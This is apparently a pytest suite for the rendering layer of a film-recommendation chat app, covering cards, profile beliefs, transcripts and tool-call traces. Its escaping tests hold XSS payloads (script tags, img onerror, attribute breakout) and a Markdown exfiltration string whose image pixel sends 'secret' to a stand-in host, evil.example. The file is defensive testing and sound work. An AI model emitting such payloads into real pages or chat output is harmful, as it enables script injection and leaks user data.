"""What the chat app renders: cards and beliefs as escaped HTML, the transcript as Markdown."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import asdict
from html.parser import HTMLParser

import pytest
from langchain_core.messages import AIMessage, HumanMessage

from agent.agent import ShownItem
from agent.profile import Belief
from agent.state import Profile, ToolCall
from knowledge.items import Catalog
from ui.cards import (
    BeliefRow,
    beliefs,
    card_html,
    header_html,
    item_marks,
    notice_html,
    one_line,
    year_range,
)
from ui.transcript import (
    USER_PREVIEW_CHARS,
    example_prompts,
    history,
    reply_text,
    session_label,
    tool_steps,
    user_message,
    user_text,
)

EVIL = '<script>alert("x")</script><img src=x onerror=alert(1)>'


class _Tags(HTMLParser):
    """Collect the tags and attributes of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend(attrs)


def _parse(fragment: str) -> _Tags:
    parser = _Tags()
    parser.feed(fragment)
    return parser


def _item(**overrides: object) -> ShownItem:
    data: dict[str, object] = {
        "item_id": "tenet-2020",
        "title": "Tenet",
        "year": 2020,
        "genres": ["action", "sci-fi"],
        "people": {"director": ["Christopher Nolan"], "star": ["John David Washington"]},
        "description": "A secret agent manipulates time. Then more happens later on.",
        "tools": ["kg_paths", "retriever", "my_plugin"],
        "evidence": ["shares director Christopher Nolan with Inception (2010)"],
    }
    data.update(overrides)
    return ShownItem.model_validate(data)


def test_card_shows_every_part() -> None:
    html = card_html(_item(), rank=1)
    for text in (
        "Tenet",
        "2020",
        "sci-fi",
        "Director",
        "Christopher Nolan",
        "Star",
        "A secret agent manipulates time.",
        "shares director Christopher Nolan with Inception (2010)",
        "knowledge graph",  # kg_paths, by its friendly name
        "text search",
        "my_plugin",  # a plug-in tool keeps its own name
        'data-item-id="tenet-2020"',
    ):
        assert text in html
    # One line: the first sentence shows; the whole description is the tooltip.
    assert ">A secret agent manipulates time.</p>" in html
    assert 'title="A secret agent manipulates time. Then more happens later on."' in html


def test_card_escapes_catalog_text() -> None:
    item = _item(
        item_id='x" onmouseover="alert(1)',
        title=EVIL,
        genres=[EVIL],
        people={"director": [EVIL]},
        description=EVIL,
        tools=[EVIL],
        evidence=[EVIL],
    )
    parsed = _parse(card_html(item, rank=2))
    assert "script" not in parsed.tags and "img" not in parsed.tags
    assert not any(name.startswith("on") for name, _ in parsed.attrs)
    assert ("data-item-id", 'x" onmouseover="alert(1)') in parsed.attrs  # kept as a value


def test_card_marks_feedback() -> None:
    html = card_html(_item(), rank=1, marks={"disliked"})
    assert "is-disliked" in html and "Not for you" in html


def test_one_line_cuts_at_a_word() -> None:
    assert one_line("Short. Second sentence.") == "Short."
    long = "word " * 60
    cut = one_line(long, limit=50)
    assert len(cut) <= 50 and cut.endswith("…") and "wor…" not in cut


def test_beliefs_list_every_part_of_the_profile() -> None:
    profile = Profile(
        liked=["a"],
        disliked=["b"],
        seen=["c"],
        wanted={"genre": ["comedy"]},
        avoided={"genre": ["horror"], "star": ["x"]},
        year_min=1990,
        year_max=1999,
        topics=["heist", "about time travel"],
        notes=["something uplifting"],
    )
    found = beliefs(profile, title_of=lambda i: f"Title {i}")
    kinds = [(b.group, b.kind, b.attribute, b.value, b.label) for b in found]
    assert kinds == [
        ("Liked", "liked", None, "a", "Title a"),
        ("Disliked", "disliked", None, "b", "Title b"),
        ("Seen", "seen", None, "c", "Title c"),
        ("Wants", "wanted", "genre", "comedy", "comedy"),
        ("Avoids", "avoided", "genre", "horror", "horror"),
        ("Avoids", "avoided", "star", "x", "with x"),
        ("Years", "years", None, "", "1990–1999"),
        ("Wants", "topic", None, "heist", "heist films"),
        ("Wants", "topic", None, "about time travel", "films about time travel"),
        ("Wishes", "note", None, "something uplifting", "something uplifting"),
    ]
    assert [b.removable for b in found][-1] is False
    assert item_marks(found) == {"a": {"liked"}, "b": {"disliked"}, "c": {"seen"}}
    assert beliefs(Profile(), title_of=str) == []
    # "no b or anything like it": the panel says the kin go too
    unlike = beliefs(Profile(disliked=["b"], unlike=["b"]), title_of=lambda i: f"Title {i}")
    assert [b.label for b in unlike] == ["Title b and anything like it"]


def test_asked_for_people_are_named_as_the_catalog_spells_them() -> None:
    profile = Profile(wanted={"star": ["jim carrey"], "writer": ["jim carrey"], "mood": ["calm"]})
    names = {("star", "jim carrey"): "Jim Carrey", ("writer", "jim carrey"): "Jim Carrey"}
    found = beliefs(profile, str, lambda attribute, value: names.get((attribute, value), value))
    labels = {b.label: b.value for b in found}
    assert labels == {  # the value stays what `forget` takes
        "with Jim Carrey": "jim carrey",
        "written by Jim Carrey": "jim carrey",
        "mood: calm": "calm",
    }


def test_year_range_words() -> None:
    assert year_range(None, None) == ""
    assert year_range(1990, None) == "1990 or later"
    assert year_range(None, 1999) == "up to 1999"
    assert year_range(1990, 1999) == "1990–1999"
    assert year_range(2017, 2017) == "2017"


def test_notice_and_header_escape() -> None:
    assert notice_html(None) == "" and notice_html("") == ""
    assert "<script>" not in notice_html(EVIL) and "&lt;script&gt;" in notice_html(EVIL)
    header = header_html(EVIL, 3, EVIL, True)
    assert "script" not in _parse(header).tags
    assert "templates" in header_html("demo", 3, "none", False)


def test_user_text_shows_what_was_typed() -> None:
    shown = user_text("<b>hi</b> *not bold* [link](x) `code` # 5 & $x$")
    assert "<b>" not in shown and "&lt;b&gt;" in shown
    for raw in ("*", "[", "]", "`", "#", "$"):
        assert f"\\{raw}" in shown
    assert "&amp;" in shown


def test_over_long_user_message_is_shown_cut() -> None:
    message = user_message("x" * 5000)
    assert len(message["content"]) < USER_PREVIEW_CHARS + 40
    assert "5,000 characters" in message["content"]


def test_reply_keeps_lists_but_not_html() -> None:
    reply = reply_text("You might enjoy:\n1. Tenet (2020)\n2. <i>Memento</i>\nTell me more.")
    assert "&lt;i&gt;" in reply
    assert "2. &lt;i&gt;Memento&lt;/i&gt;\n\nTell me more." in reply  # the list ends there


def test_tool_steps_are_collapsible_and_nested() -> None:
    trace = [
        ToolCall(tool="lookup", input={"text": "```inception```"}, summary="1 hit", ms=2.0),
        ToolCall(tool="retriever", input={"k": 5}, summary="", ms=40.0, error="boom"),
    ]
    steps = tool_steps(trace, key="t0")
    parent, first, second = steps
    assert parent["metadata"]["id"] == "t0" and parent["metadata"]["status"] == "done"
    assert "2 tool calls" in parent["metadata"]["title"]
    assert "1 failed" in parent["metadata"]["title"]
    assert first["metadata"]["parent_id"] == "t0" and first["metadata"]["title"] == "lookup"
    assert "````" in first["content"]  # a longer fence than the backticks inside
    assert second["metadata"]["title"] == "⚠ retriever" and "boom" in second["content"]
    assert tool_steps([], key="t1") == []


def test_history_puts_the_last_steps_before_the_last_reply() -> None:
    messages = [HumanMessage("hi"), AIMessage("hello"), HumanMessage("more"), AIMessage("ok")]
    trace = [ToolCall(tool="lookup", input={}, summary="-", ms=1.0)]
    shown = history(messages, trace)
    roles = [(m["role"], m.get("metadata", {}).get("title", m["content"])) for m in shown]
    assert roles == [
        ("user", "hi"),
        ("assistant", "hello"),
        ("user", "more"),
        ("assistant", "Used 1 tool call: lookup"),
        ("assistant", "lookup"),
        ("assistant", "ok"),
    ]


def test_session_label() -> None:
    assert session_label([]) == "New conversation"
    label = session_label([HumanMessage("I loved Inception " * 10), AIMessage("ok")])
    assert label.startswith("I loved Inception") and label.endswith("· 1 turn")
    assert len(label) < 70


def test_example_prompts_come_from_the_catalog(tiny_catalog: Catalog) -> None:
    prompts = example_prompts(tiny_catalog)
    assert prompts[0] == "I loved Inception (2010). What should I try next?"  # most popular
    assert any("Who directed" in p for p in prompts)
    assert any("sci-fi" in p for p in prompts)
    assert example_prompts(Catalog([], name="empty")) == []


def test_belief_round_trips_through_page_state() -> None:
    row = BeliefRow("Avoids", "avoided", "horror", "genre", "genre: horror")
    assert BeliefRow(**asdict(row)) == row
    assert row.belief() == Belief(kind="avoided", attribute="genre", value="horror")


EXFILTRATION = (
    "Enjoy Inception! ![pixel](http://evil.example/p.png?d=secret) "
    "[click me](https://evil.example/x) <img src=http://evil.example/i.png> "
    "see www.evil.example or mail me@evil.example, javascript:alert(1) "
    '[ref]: http://evil.example/r "t"'
)


@pytest.mark.parametrize("render", [reply_text, user_text])
def test_chat_text_holds_no_link_or_image(render: Callable[[str], str]) -> None:
    """What Gradio's Markdown would turn into a fetch or a click stays plain text."""
    shown = render(EXFILTRATION)
    assert "<img" not in shown and "&lt;img" in shown
    assert re.search(r"(?<!\\)[\[\]]", shown) is None  # every bracket escaped: \\[ \\]
    for address in ("http://", "https://", "www.", "me@", "javascript:"):
        assert address not in shown, address
    assert "http\\://evil.example" in shown and "www\\.evil" in shown and "me\\@evil" in shown
